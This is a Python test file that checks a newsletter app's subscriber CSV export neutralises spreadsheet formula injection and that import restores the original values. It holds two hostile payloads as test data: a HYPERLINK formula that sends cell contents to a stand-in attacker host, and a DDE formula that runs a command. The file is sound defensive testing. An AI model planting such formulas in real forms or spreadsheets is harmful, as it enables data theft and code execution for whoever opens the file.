"""Attack: formula injection through the public form into the operator's spreadsheet. Every
exported cell that starts with =, +, -, @, tab or CR is neutralised; import restores it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from newsletter.subscribers.csvfile import neutralise, restore
from tests.support.cli import run_cli
from tests.support.configs import base_config, write_config
from tests.support.inbox import Inbox
from tests.support.subscribing import link_in, press, serve_site, session, subscribe

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_AGENT = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''@", "'plain",
                                  "plain", "", "O'Brien"])
def test_neutralise_then_restore_is_the_identity(cell: str) -> None:
    assert restore(neutralise(cell)) == cell
    assert not neutralise(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_hostile_name_and_user_agent_export_inert_and_import_back(tmp_path: Path, store_url: str,
                                                                    inbox: Inbox) -> None:
    site = serve_site(tmp_path, store_url, inbox)
    try:
        browser, csrf = session(site, headers={"User-Agent": HOSTILE_AGENT})
        subscribe(browser, csrf, "formula@example.org", name=HOSTILE_NAME)
        press(browser, link_in(inbox.wait_for("formula@example.org"), "/confirm/"))
        browser, csrf = session(site, headers={"User-Agent": "+pending"})
        subscribe(browser, csrf, "pending@example.org", name="@pending")
    finally:
        site.stop()
    config = tmp_path / "config.toml"
    exported = run_cli("subscribers", "export", config=config, check=True).stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    [row] = [r for r in rows if r["email"] == "formula@example.org"]
    assert (row["name"], row["consent_user_agent"]) == ("'" + HOSTILE_NAME, "'" + HOSTILE_AGENT)

    # The round trip: the export imported into an empty store gives back the same data and file.
    (tmp_path / "again").mkdir()
    other = write_config(tmp_path / "again", {**base_config(f"sqlite:///{tmp_path / 'again' / 'store.sqlite3'}"),
                                             "editions": [{"name": "daily-en", "language": "en"}]})
    (tmp_path / "export.csv").write_text(exported, encoding="utf-8")
    run_cli("subscribers", "import", str(tmp_path / "export.csv"), config=other, check=True)
    shown = json.loads(run_cli("subscribers", "show", "formula@example.org", "--json", config=other,
                               check=True).stdout)
    assert shown["name"] == HOSTILE_NAME and shown["consents"][0]["user_agent"] == HOSTILE_AGENT
    assert run_cli("subscribers", "export", config=other, check=True).stdout == exported
